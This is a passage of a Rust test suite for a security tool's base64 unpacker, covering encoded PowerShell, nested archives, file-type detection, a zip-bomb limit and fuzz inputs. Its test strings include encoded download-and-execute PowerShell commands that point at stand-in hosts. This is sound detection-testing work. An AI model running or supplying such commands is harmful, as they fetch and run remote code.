//! Base64 unpacking (`huntbook::decode`): the Tour's command line, PowerShell UTF-16, archives nested in every order
//! (built here with the crates), magic-byte file types, msticpy's false positives, the limits (a 200 MB zip bomb),
//! the Tour's process table, and 500 garbage inputs that must not panic.
//!
//! Expected hashes and base64 strings were computed with Python (`hashlib`, `base64`), not with huntbook.

use std::io::{Cursor, Write};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use base64::Engine as _;
use huntbook::decode::{unpack, unpack_frame, Encoding, Fragment, UnpackOptions};
use huntbook::frame::loganalytics::parse_response;
use huntbook::ioc::{extract_iocs, extract_iocs_frame, IocOptions};

/// Tests that need a lot of memory run one at a time (the zip bomb measures the growth of peak memory).
static HEAVY: Mutex<()> = Mutex::new(());

fn opts() -> UnpackOptions {
    UnpackOptions::default()
}

fn b64(b: &[u8]) -> String {
    STANDARD.encode(b)
}

const TOUR: &str = "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl";

#[test]
fn the_tours_encoded_command() {
    let u = unpack(TOUR, &opts()).unwrap();
    assert_eq!(
        u.text,
        "powershell.exe -encodedCommand <decoded type='string' name='[None]' index='1' depth='1'>\
         Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe</decoded>"
    );
    assert!(!u.truncated && u.notes.is_empty());
    assert_eq!(u.fragments.len(), 1);
    let f = &u.fragments[0];
    assert_eq!(f.reference, "1");
    assert_eq!(f.depth, 1);
    assert_eq!(&*f.original_string, TOUR.split(' ').nth(2).unwrap());
    assert_eq!(
        f.decoded_string.as_deref(),
        Some("Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe")
    );
    assert_eq!(f.encoding_type, Encoding::Utf8);
    assert_eq!(f.file_name, "unknown");
    assert_eq!(f.file_type, None);
    assert_eq!(f.md5.as_deref(), Some("5845a06d7f52b1818a088e889df95c77"));
    assert_eq!(f.sha1.as_deref(), Some("1c31052c4aabb853777c1ce74943cafe27bb1d42"));
    assert_eq!(
        f.sha256.as_deref(),
        Some("7054dcebb2f74492c06f4ba89cac8e7e99b44e1a6029e0ad403aab9bb7503d8c")
    );
    assert!(f.printable_bytes.starts_with("49 6e 76 6f 6b 65 2d 57"));

    // The decoded text feeds IoC extraction, as in the Tour.
    let iocs = extract_iocs(&u.fragments[0].decoded_string.clone().unwrap(), &IocOptions::default()).unwrap();
    let got: Vec<(&str, &str)> = iocs
        .iter()
        .map(|i| (i.ioc_type.as_str(), i.observable.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("url", "https://contoso.com/malware"),
            ("linux_path", "//contoso.com/malware"),
            ("dns", "contoso.com"),
            ("windows_path", "C:\\malware.exe")
        ]
    );
}

#[test]
fn table_has_msticpys_columns() {
    let t = unpack(TOUR, &opts()).unwrap().table().unwrap();
    assert_eq!(
        t.column_names(),
        [
            "reference",
            "original_string",
            "file_name",
            "file_type",
            "input_bytes",
            "decoded_string",
            "encoding_type",
            "file_hashes",
            "md5",
            "sha1",
            "sha256",
            "printable_bytes"
        ]
    );
    assert_eq!(t.height(), 1);
    let hashes = t
        .df()
        .column("file_hashes")
        .unwrap()
        .str()
        .unwrap()
        .get(0)
        .unwrap()
        .to_string();
    let v: serde_json::Value = serde_json::from_str(&hashes).unwrap();
    assert_eq!(v["md5"], "5845a06d7f52b1818a088e889df95c77");
    let bytes = t
        .df()
        .column("input_bytes")
        .unwrap()
        .as_materialized_series()
        .binary()
        .unwrap()
        .get(0)
        .unwrap()
        .to_vec();
    assert_eq!(
        bytes,
        b"Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe"
    );
    // The table goes out to JS like any other.
    assert!(!huntbook::frame::arrow::to_ipc_stream(&t, Default::default())
        .unwrap()
        .is_empty());
    assert!(huntbook::frame::rows::to_json_rows(&t, 0, 10).contains("Invoke-WebRequest"));
}

#[test]
fn powershell_utf16_is_detected() {
    // base64 of the UTF-16LE script (Python: base64.b64encode(s.encode('utf-16-le'))).
    let enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMQAuADIALgAzAC8AYQAuAHAAcwAxACcAKQA=";
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')";
    let u = unpack(&format!("powershell -nop -w hidden -enc {enc}"), &opts()).unwrap();
    assert_eq!(
        u.text,
        format!("powershell -nop -w hidden -enc <decoded type='string' name='[None]' index='1' depth='1'>{script}</decoded>")
    );
    let f = &u.fragments[0];
    assert_eq!(f.encoding_type, Encoding::Utf16);
    assert_eq!(f.decoded_string.as_deref(), Some(script));
    assert_eq!(f.md5.as_deref(), Some("3a113936ae1dbb646c8f3bffcea38fb2"));
    // Without detection it is not NUL-laced text (msticpy's default output).
    let off = UnpackOptions {
        utf16_detect: false,
        ..opts()
    };
    let u = unpack(&format!("powershell -enc {enc}"), &off).unwrap();
    assert!(u
        .fragments
        .iter()
        .all(|f| f.encoding_type != Encoding::Utf16 && f.decoded_string.is_none()));
    assert!(!u.text.contains('\0'));
}

fn zip_of(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data, deflate) in members {
        let method = if *deflate {
            zip::CompressionMethod::Deflated
        } else {
            zip::CompressionMethod::Stored
        };
        w.start_file(
            *name,
            zip::write::SimpleFileOptions::default().compression_method(method),
        )
        .unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn gzip_of(name: &str, data: &[u8]) -> Vec<u8> {
    let mut e = flate2::GzBuilder::new()
        .filename(name)
        .write(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn bzip2_of(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn archives_nested_in_every_order() {
    // zip ⊃ (layer.tar.gz: gzip ⊃ tar ⊃ (inner.bz2: bzip2 ⊃ text with base64), readme.txt), notes.txt (stored)
    let secret = "Invoke-Expression (iwr http://203.0.113.9/stage2.ps1)";
    let payload = format!("run {}\n", b64(secret.as_bytes()));
    let tar = tar_of(&[
        ("inner.bz2", &bzip2_of(payload.as_bytes())),
        ("readme.txt", b"readme text\n"),
    ]);
    let zip = zip_of(&[
        ("layer.tar.gz", &gzip_of("layer.tar", &tar), true),
        ("notes.txt", b"hello notes\n", false),
    ]);
    let u = unpack(&format!("cmd /c echo {} > x.zip", b64(&zip)), &opts()).unwrap();
    assert!(u.notes.is_empty(), "{:?}", u.notes);

    let expected_text = format!(
        "cmd /c echo <decoded value='multiple binary' type='multiple' index='1' depth='1'>\
<decoded type='string' name='[zip/gz/tar/bz2] Filename: layer.tar.gz/layer.tar/inner.bz2/bzip2_file' index='1.1' depth='2'>run \
<decoded type='string' name='[None]' index='1.1.1' depth='3'>{secret}</decoded>\n</decoded>\
<decoded type='string' name='[zip/gz/tar] Filename: layer.tar.gz/layer.tar/readme.txt' index='1.2' depth='2'>readme text\n</decoded>\
<decoded type='string' name='[zip] Filename: notes.txt' index='1.3' depth='2'>hello notes\n</decoded>\
</decoded> > x.zip"
    );
    assert_eq!(u.text, expected_text);

    type Row<'a> = (&'a str, usize, &'a str, Option<&'a str>, Option<&'a str>);
    let rows: Vec<Row> = u
        .fragments
        .iter()
        .map(|f| {
            (
                f.reference.as_str(),
                f.depth,
                f.file_name.as_str(),
                f.file_type.as_deref(),
                f.decoded_string.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            (
                "1.1",
                2,
                "layer.tar.gz/layer.tar/inner.bz2/bzip2_file",
                Some("zip/gz/tar/bz2"),
                Some(payload.as_str())
            ),
            ("1.1.1", 3, "unknown", None, Some(secret)),
            (
                "1.2",
                2,
                "layer.tar.gz/layer.tar/readme.txt",
                Some("zip/gz/tar"),
                Some("readme text\n")
            ),
            ("1.3", 2, "notes.txt", Some("zip"), Some("hello notes\n")),
        ]
    );
    let notes = &u.fragments[3];
    assert_eq!(notes.md5.as_deref(), Some("44f1861faa332982c028a87bbded5975"));
    assert_eq!(
        notes.sha256.as_deref(),
        Some("aee09817c7591334c972b0c12ec9d4d23b2456a6068cbacc168743d2013bfb49")
    );
    assert_eq!(u.fragments[2].md5.as_deref(), Some("a78983bfc3503d4f8d73cbf3d17946f1"));
    // Every member row carries the archive's base64 run.
    assert!(u
        .fragments
        .iter()
        .filter(|f| f.depth == 2)
        .all(|f| *f.original_string == b64(&zip)));
}

#[test]
fn single_archives_of_each_kind() {
    let text = "hello from inside\n";
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (zip_of(&[("a.txt", text.as_bytes(), false)]), "[zip] Filename: a.txt"),
        (zip_of(&[("a.txt", text.as_bytes(), true)]), "[zip] Filename: a.txt"),
        (gzip_of("a.txt", text.as_bytes()), "[gz] Filename: a.txt"),
        (tar_of(&[("dir/a.txt", text.as_bytes())]), "[tar] Filename: dir/a.txt"),
        (bzip2_of(text.as_bytes()), "[bz2] Filename: bzip2_file"),
    ];
    for (bytes, name) in cases {
        let u = unpack(&b64(&bytes), &opts()).unwrap();
        assert_eq!(
            u.text,
            format!("<decoded type='string' name='{name}' index='1' depth='1'>{text}</decoded>"),
            "{name}"
        );
        assert_eq!(u.fragments.len(), 1);
    }
}

#[test]
fn file_types_by_magic_bytes() {
    let mut pe = vec![0u8; 512];
    pe[..4].copy_from_slice(b"MZ\x90\x00");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    for (i, b) in pe.iter_mut().enumerate().skip(0x100) {
        *b = (i * 7 % 251) as u8;
    }
    let mut dll = pe.clone();
    dll[0x80 + 23] = 0x20; // IMAGE_FILE_DLL
    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj".to_vec();
    pdf.extend((0..40u8).map(|x| x.wrapping_mul(37)));
    let seven = [b"7z\xbc\xaf\x27\x1c\x00\x04".as_slice(), &[0x11; 30]].concat();
    let rar = [b"Rar!\x1a\x07\x01\x00".as_slice(), &[0x22; 30]].concat();
    let msi = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0x33; 30]].concat();
    for (bytes, ty) in [
        (pe, "exe"),
        (dll, "dll"),
        (pdf, "pdf"),
        (seven, "7z"),
        (rar, "rar"),
        (msi, "msi"),
    ] {
        let u = unpack(&format!("x {} y", b64(&bytes)), &opts()).unwrap();
        assert_eq!(u.fragments.len(), 1, "{ty}");
        let f = &u.fragments[0];
        assert_eq!(f.file_type.as_deref(), Some(ty));
        assert_eq!(f.encoding_type, Encoding::Binary);
        assert_eq!(f.input_bytes, bytes);
        assert!(
            u.text.starts_with(&format!(
                "x <decoded value='binary'  name='[{ty}]' type='{ty}' index='1' depth='1'>"
            )),
            "{}",
            u.text
        );
        assert!(u.text.ends_with("</decoded> y"));
    }
}

#[test]
fn no_false_binaries() {
    for t in [
        "C:\\Windows\\syswow64\\MsiExec.exe -Embedding 772A9CF421EEC37E11490F01D0EDD091 C",
        "C:\\Windows\\system32\\svchost.exe -k LocalServiceAndNoImpersonation",
        "-ServerName:App.AppXtk181tbxbce2qsex02s8tw7hfxa9xb3t.mca",
        "guid 710dc858-9c96-4df5-bd9b-e932e7433077 and sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        &"A".repeat(400),
        &format!("x={}", "AAAA".repeat(40) + "AQ=="),
        "/usr/lib/x86_64-linux-gnu/libsomethingverylongname.so.1",
    ] {
        let u = unpack(t, &opts()).unwrap();
        assert!(u.fragments.is_empty(), "{t}: {:?}", u.fragments);
        assert_eq!(u.text, t);
    }
}

#[test]
fn unpadded_and_url_safe_runs() {
    let text = "Start-BitsTransfer -Source http://198.51.100.7/p.exe";
    let unpadded = STANDARD_NO_PAD.encode(text);
    assert!(!unpadded.ends_with('='));
    let u = unpack(&format!("-e {unpadded}"), &opts()).unwrap();
    assert_eq!(u.fragments.len(), 1);
    assert_eq!(u.fragments[0].decoded_string.as_deref(), Some(text));

    // Python: base64.urlsafe_b64encode(x.encode())
    let url_safe = "PD94bWwgdmVyc2lvbj0iMS4wIj8-PGEgaHJlZj0iaHR0cDovL3guZXhhbXBsZS95P3o9MSIvPjxiPm9rPzwvYj4=";
    let xml = r#"<?xml version="1.0"?><a href="http://x.example/y?z=1"/><b>ok?</b>"#;
    for run in [url_safe, url_safe.trim_end_matches('=')] {
        let u = unpack(&format!("GoogleUpdate.exe /ping {run}"), &opts()).unwrap();
        assert_eq!(
            u.text,
            format!("GoogleUpdate.exe /ping <decoded type='string' name='[None]' index='1' depth='1'>{xml}</decoded>")
        );
    }
    let u = unpack(
        &format!("GoogleUpdate.exe /ping {url_safe}"),
        &UnpackOptions {
            url_safe: false,
            ..opts()
        },
    )
    .unwrap();
    assert!(u.fragments.iter().all(|f| f.decoded_string.as_deref() != Some(xml)));
    // Identifiers with `-`/`_` are not URL-safe base64.
    let t = "C:\\Windows\\SystemApps\\ShellExperienceHost_cw5n1h2txyewy\\ShellExperienceHost.exe";
    assert!(unpack(t, &opts()).unwrap().fragments.is_empty());
}

#[test]
fn random_binary_and_line_breaks() {
    let mut x: u32 = 0x9e37_79b9;
    let bytes: Vec<u8> = (0..48)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect();
    let run = b64(&bytes);
    let u = unpack(&format!("blob {run} end"), &opts()).unwrap();
    assert_eq!(u.fragments.len(), 1);
    assert_eq!(u.fragments[0].encoding_type, Encoding::Binary);
    assert_eq!(u.fragments[0].input_bytes, bytes);
    assert!(u
        .text
        .starts_with("blob <decoded value='binary'  name='[None]' type='None' index='1' depth='1'>"));

    // A run wrapped at 20 characters (\r\n) is one run.
    let text = "This text was wrapped by a mail client at twenty characters.";
    let enc = b64(text.as_bytes());
    let wrapped: Vec<&str> = enc
        .as_bytes()
        .chunks(20)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let u = unpack(&format!("body:\r\n{}\r\nbye", wrapped.join("\r\n")), &opts()).unwrap();
    assert_eq!(u.fragments.len(), 1);
    assert_eq!(
        u.text,
        format!("body:\r\n<decoded type='string' name='[None]' index='1' depth='1'>{text}</decoded>\r\nbye")
    );
}

#[test]
fn repeated_runs_are_one_fragment() {
    let run = b64(b"the same payload twice, in one command line");
    let u = unpack(&format!("a {run} b {run} c"), &opts()).unwrap();
    assert_eq!(u.fragments.len(), 1);
    assert_eq!(u.text.matches("index='1' depth='1'").count(), 2);
}

#[test]
fn depth_limit_is_said() {
    let mut s = "whoami /all; echo the innermost command of a deeply nested chain".to_string();
    for _ in 0..25 {
        s = format!("echo {}", b64(s.as_bytes()));
    }
    let u = unpack(&s, &opts()).unwrap();
    assert_eq!(u.fragments.len(), 20);
    assert_eq!(u.fragments.iter().map(|f| f.depth).max(), Some(20));
    assert_eq!(u.fragments.last().unwrap().reference, vec!["1"; 20].join("."));
    assert!(u.truncated);
    assert!(
        u.notes.iter().any(|n| n.starts_with("limit max_depth")),
        "{:?}",
        u.notes
    );
    let u = unpack(&s, &UnpackOptions { max_depth: 3, ..opts() }).unwrap();
    assert_eq!(u.fragments.len(), 3);
    let u = unpack(
        &s,
        &UnpackOptions {
            max_depth: 1000,
            ..opts()
        },
    )
    .unwrap();
    assert_eq!(u.fragments.len(), 25);
    assert!(!u.truncated);
    assert!(u.text.contains("the innermost command"));
    assert!(unpack("x", &UnpackOptions { max_depth: 0, ..opts() }).is_err());
}

#[test]
fn fragments_per_level_limit_is_said() {
    let text: Vec<String> = (0..60)
        .map(|i| b64(format!("fragment number {i:02} of sixty").as_bytes()))
        .collect();
    let u = unpack(&text.join(" "), &opts()).unwrap();
    assert_eq!(u.fragments.len(), 50);
    assert_eq!(u.fragments.last().unwrap().reference, "50");
    assert!(u.truncated && u.notes.iter().any(|n| n.starts_with("limit max_fragments_per_level")));
    assert!(u.text.ends_with(text[59].as_str()));
}

#[test]
fn member_limit_is_said() {
    let names: Vec<String> = (0..30).map(|i| format!("f{i:02}.txt")).collect();
    let members: Vec<(&str, &[u8], bool)> = names
        .iter()
        .map(|n| (n.as_str(), b"tiny file contents\n".as_slice(), true))
        .collect();
    let zip = zip_of(&members);
    let u = unpack(
        &b64(&zip),
        &UnpackOptions {
            max_members: 10,
            ..opts()
        },
    )
    .unwrap();
    assert_eq!(u.fragments.len(), 10);
    assert!(
        u.truncated && u.notes.iter().any(|n| n.starts_with("limit max_members")),
        "{:?}",
        u.notes
    );
}

/// Peak resident memory of this process (Linux), in bytes.
fn peak_rss() -> Option<u64> {
    let s = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = s.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb * 1024)
}

#[test]
fn zip_bomb_stops_at_the_byte_budget() {
    let _heavy = HEAVY.lock().unwrap_or_else(|e| e.into_inner());
    // 200 MB of zeros, deflated, written in 1 MB pieces (the test never holds the 200 MB either).
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(9));
    w.start_file("zeros.bin", o).unwrap();
    let mb = vec![0u8; 1 << 20];
    for _ in 0..200 {
        w.write_all(&mb).unwrap();
    }
    w.start_file("after.txt", o).unwrap();
    w.write_all(b"never read").unwrap();
    let zip = w.finish().unwrap().into_inner();
    assert!(zip.len() < 1 << 20, "bomb is {} bytes", zip.len());
    let text = format!(
        "powershell -c \"[IO.File]::WriteAllBytes('b.zip', [Convert]::FromBase64String('{}'))\"",
        b64(&zip)
    );
    drop(mb);

    let before = peak_rss();
    let t = Instant::now();
    let u = unpack(&text, &opts()).unwrap();
    let took = t.elapsed();
    let after = peak_rss();

    assert!(u.truncated);
    assert!(
        u.notes
            .iter()
            .any(|n| n.contains("limit max_total_bytes") && n.contains("zeros.bin")),
        "{:?}",
        u.notes
    );
    assert!(
        u.notes
            .iter()
            .any(|n| n.contains("limit max_total_bytes") && n.contains("were not read")),
        "{:?}",
        u.notes
    );
    assert_eq!(u.fragments.len(), 1);
    let f = &u.fragments[0];
    assert!(f.truncated && f.md5.is_none() && f.sha256.is_none());
    assert_eq!(f.file_name, "zeros.bin");
    // Everything decoded in the call (the zip itself plus the member) fits in the 64 MiB budget.
    assert!(f.input_bytes.len() + zip.len() <= 64 << 20);
    assert!(f.input_bytes.len() > 60 << 20);
    assert!(u.text.contains("truncated='max_total_bytes'"));
    assert!(u.text.len() < 1 << 20, "the hex dump is cut: {} bytes", u.text.len());
    assert!(took < Duration::from_secs(60), "took {took:?}");
    if let (Some(b), Some(a)) = (before, after) {
        // Peak memory grew by less than the 200 MB member (the budget is 64 MiB).
        assert!(
            a.saturating_sub(b) < 190 << 20,
            "peak grew by {} MB",
            a.saturating_sub(b) >> 20
        );
    }

    // A smaller budget cuts sooner, with the same note.
    let u = unpack(
        &text,
        &UnpackOptions {
            max_total_bytes: 1 << 20,
            ..opts()
        },
    )
    .unwrap();
    assert!(u.truncated && u.fragments[0].input_bytes.len() + zip.len() <= 1 << 20);
}

#[test]
fn damaged_archives_are_notes() {
    let zip = zip_of(&[("a.txt", b"some text in a zip that we then break", true)]);
    let mut broken = zip.clone();
    broken.truncate(zip.len() / 2);
    let gz = gzip_of("a.txt", b"some text in a gzip that we then break apart");
    let mut bad_gz = gz.clone();
    for b in bad_gz.iter_mut().skip(12) {
        *b ^= 0x5a;
    }
    for bytes in [broken, bad_gz, gz[..gz.len() - 6].to_vec()] {
        let u = unpack(&b64(&bytes), &opts()).unwrap();
        assert!(!u.notes.is_empty(), "{:?}", u.fragments);
        assert!(u.fragments.len() <= 1);
    }
}

fn load_fixture() -> huntbook::Frame {
    let bytes = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/fixtures/tour/asn_processes_on_host.la.json"
    ))
    .expect("the Tour fixture");
    parse_response(&bytes).unwrap().tables.remove(0)
}

#[test]
fn the_tours_process_table() {
    let _heavy = HEAVY.lock().unwrap_or_else(|e| e.into_inner());
    let f = load_fixture();
    assert_eq!(f.height(), 22979);
    let t = unpack_frame(&f, "CommandLine", &opts()).unwrap();
    assert_eq!(
        t.column_names()[12..],
        [
            "src_index".to_string(),
            "CommandLine".to_string(),
            "full_decoded_string".to_string()
        ]
    );
    // msticpy finds 7 rows here: 2 real ones, plus 4 AppX ids and 1 MsiExec hex id as "binary" (false positives);
    // it misses the URL-safe, unpadded GoogleUpdate ping (row 9163). Python: 2 rows of the `-enc` command, 1 ping.
    let src: Vec<i64> = t
        .df()
        .column("src_index")
        .unwrap()
        .i64()
        .unwrap()
        .into_iter()
        .flatten()
        .collect();
    assert_eq!(src, [968, 7452, 9163]);
    let dec: Vec<String> = t
        .df()
        .column("decoded_string")
        .unwrap()
        .str()
        .unwrap()
        .into_iter()
        .map(|s| s.unwrap().to_string())
        .collect();
    let enc_cmd = "-Noninteractive -Noprofile -Command \"Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://wh401k.org/getps\"";
    assert_eq!(dec[0], enc_cmd);
    assert_eq!(dec[1], enc_cmd);
    assert!(dec[2].starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?><request protocol=\"3.0\" updater=\"Omaha\""));
    assert!(dec[2].contains("url=\"http://redirector.gvt1.com/edgedl/release2/chrome/"));
    let full = t
        .df()
        .column("full_decoded_string")
        .unwrap()
        .str()
        .unwrap()
        .get(0)
        .unwrap()
        .to_string();
    assert_eq!(
        full,
        format!(".\\powershell  -enc <decoded type='string' name='[None]' index='1' depth='1'>{enc_cmd}</decoded>")
    );
    let cell = t
        .df()
        .column("CommandLine")
        .unwrap()
        .str()
        .unwrap()
        .get(0)
        .unwrap()
        .to_string();
    assert!(cell.starts_with(".\\powershell  -enc LU5vbmludGVyYWN0aXZl"));

    // IoCs of the decoded ping: the redirector URL is now visible.
    let ping = unpack_frame(&f.slice(9163, 1), "CommandLine", &opts()).unwrap();
    let full = ping
        .df()
        .column("full_decoded_string")
        .unwrap()
        .str()
        .unwrap()
        .get(0)
        .unwrap()
        .to_string();
    let iocs = extract_iocs(
        &full,
        &IocOptions {
            include_paths: Some(false),
            ..Default::default()
        },
    )
    .unwrap();
    assert!(iocs.iter().any(|i| i.ioc_type == "url"
        && i.observable
            .starts_with("http://redirector.gvt1.com/edgedl/release2/chrome/")));

    // Errors: unknown column, non-text column.
    assert!(unpack_frame(&f, "CommandLin", &opts())
        .unwrap_err()
        .to_string()
        .contains("did you mean 'CommandLine'"));
    assert!(unpack_frame(&f, "EventID", &opts())
        .unwrap_err()
        .to_string()
        .contains("not text"));
}

/// xorshift: reproducible garbage.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    /// Up to `max` random bytes.
    fn bytes(&mut self, max: usize) -> Vec<u8> {
        let n = self.below(max);
        (0..n).map(|_| self.next() as u8).collect()
    }
}

/// 500 inputs: random bytes, truncated and bit-flipped archives as base64, runs of `=` and `A`, nested brackets,
/// defanged-looking junk, percent junk, deep base64.
pub fn garbage(seed: u64) -> Vec<String> {
    let mut r = Rng(seed);
    let archives = [
        zip_of(&[
            (
                "a.txt",
                b"zip text with aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8= inside",
                true,
            ),
            ("b.bin", &[0u8, 1, 2, 3], false),
        ]),
        gzip_of("g", b"gzip text"),
        tar_of(&[("t.txt", b"tar text"), ("u.txt", b"more")]),
        bzip2_of(b"bzip2 text bzip2 text bzip2 text"),
    ];
    let pieces = [
        "hxxp", "[.]", "(.)", "[at]", "[:]", "//", "://", "%2F", "%", "[", "]", "(", ")", "{", "}", "@", ".",
        "1.2.3.4", "::", "fe80::", "http://", "C:\\", "\\\\", "/", "=", "AAAA", "\u{0}", "\u{fffd}", "é", "😀", "\r\n",
        " ", "xn--", "-", "_",
    ];
    let mut out = Vec::new();
    for i in 0..500 {
        let s = match i % 10 {
            0 => String::from_utf8_lossy(&r.bytes(300)).into_owned(),
            1 => {
                let a = &archives[r.below(archives.len())];
                let mut a = a[..r.below(a.len() + 1)].to_vec();
                if !a.is_empty() && r.below(2) == 0 {
                    let k = r.below(a.len());
                    a[k] ^= 1 << r.below(8);
                }
                format!("x {} y", b64(&a))
            }
            2 => "=".repeat(r.below(5000)) + &"A".repeat(r.below(5000)) + &"=".repeat(r.below(3)),
            3 => (0..r.below(400))
                .map(|_| ["[", "(", "{", "[.]", "]", ")", "}"][r.below(7)])
                .collect(),
            4 => (0..r.below(80)).map(|_| pieces[r.below(pieces.len())]).collect(),
            5 => {
                let mut s = b64(&r.bytes(200));
                for _ in 0..r.below(6) {
                    s = b64(format!("echo {s}").as_bytes());
                }
                s[..r.below(s.len() + 1)].to_string()
            }
            6 => format!("{}{}", "A".repeat(30 + r.below(100_000)), "B="),
            7 => (0..r.below(200)).map(|_| format!("{}.", r.below(400))).collect(),
            8 => {
                (0..r.below(60))
                    .map(|_| format!("%{:02X}", r.below(256)))
                    .collect::<String>()
                    + "http://a.com/%"
            }
            _ => STANDARD.encode(r.bytes(2000)).replace('+', "-"),
        };
        out.push(s);
    }
    out
}

#[test]
fn garbage_never_panics() {
    let _heavy = HEAVY.lock().unwrap_or_else(|e| e.into_inner());
    let inputs = garbage(0x5eed_1234_abcd_0042);
    let small = UnpackOptions {
        max_total_bytes: 4 << 20,
        ..opts()
    };
    for s in &inputs {
        let u = unpack(s, &small).unwrap();
        let _ = u.table().unwrap();
        let _ = extract_iocs(&u.text, &IocOptions::default()).unwrap();
        let _ = extract_iocs(s, &IocOptions::default()).unwrap();
    }
    // The same through the table APIs, with nulls among the cells.
    let cells: Vec<serde_json::Value> = inputs
        .iter()
        .enumerate()
        .map(|(i, s)| {
            if i % 17 == 0 {
                serde_json::Value::Null
            } else {
                serde_json::Value::String(s.clone())
            }
        })
        .collect();
    let rows: Vec<serde_json::Value> = cells.into_iter().map(|c| serde_json::json!([c, 1])).collect();
    let columns = serde_json::json!([{"name": "Text", "type": "string"}, {"name": "N", "type": "long"}]);
    let json = serde_json::json!({"tables": [{"name": "G", "columns": columns, "rows": rows}]});
    let f = parse_response(json.to_string().as_bytes()).unwrap().tables.remove(0);
    let t = unpack_frame(&f, "Text", &small).unwrap();
    assert!(t.height() > 0);
    let i = extract_iocs_frame(&f, &["Text", "N"], &IocOptions::default()).unwrap();
    assert!(i.height() > 0);
    assert!(i.notes.iter().any(|n| n.contains("'N'")));
}

#[test]
fn fragment_is_plain_data() {
    // The public structs can be built and compared by callers (e.g. the wasm layer).
    let u = unpack(TOUR, &opts()).unwrap();
    let f: Fragment = u.fragments[0].clone();
    assert_eq!(f, u.fragments[0]);
}

#[test]
fn binary_cells_show_as_hex_in_rows_and_html() {
    let pdf = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj".as_slice(), &[0x01, 0x02, 0xff, 0x10, 0x20, 0x30]].concat();
    let u = unpack(&format!("x {} y", b64(&pdf)), &opts()).unwrap();
    let table = u.table().unwrap();
    let hex: String = pdf.iter().map(|b| format!("{b:02x}")).collect();
    let rows: serde_json::Value =
        serde_json::from_str(&huntbook::frame::rows::to_json_rows(&table, 0, 10)).unwrap();
    assert_eq!(rows[0]["input_bytes"], serde_json::Value::String(hex));
    let spaced: Vec<String> = pdf.iter().map(|b| format!("{b:02x}")).collect();
    let html = huntbook::frame::html::to_html(
        &table,
        &huntbook::frame::html::HtmlOptions { max_rows: 5, max_cell_chars: 10_000 },
    );
    assert!(html.contains(&format!("<td class=\"huntbook-long\">{}</td>", spaced.join(" "))), "{html}");
    // A large binary shows its first KiB and its length.
    let big: Vec<u8> = (0..5000u32).map(|i| (i * 7919 % 251) as u8).collect();
    let zipped = zip_of(&[("big.bin", &big, true)]);
    let u = unpack(&b64(&zipped), &opts()).unwrap();
    let t = u.table().unwrap();
    let cell = t.df().column("input_bytes").unwrap().get(0).unwrap();
    let text = huntbook::frame::rows::display_text(&cell).unwrap();
    assert!(text.ends_with(" … (5000 bytes)"), "{}", &text[text.len() - 40..]);
    assert_eq!(text.split(' ').take_while(|w| w.len() == 2).count(), 1024);
}

#[test]
fn options_read_with_msticpy_spellings() {
    use huntbook::options::read;
    use serde_json::json;
    let o: UnpackOptions = read(
        "unpack",
        &json!({"maxDepth": 3, "max_fragments_per_level": 4.0, "utf16": false, "urlSafe": false, "trace": true}),
    )
    .unwrap();
    assert_eq!(
        o,
        UnpackOptions { max_depth: 3, max_fragments_per_level: 4, utf16_detect: false, url_safe: false, trace: true, ..opts() }
    );
    assert!(!read::<UnpackOptions>("unpack", &json!({"utf16_detect": false})).unwrap().utf16_detect);
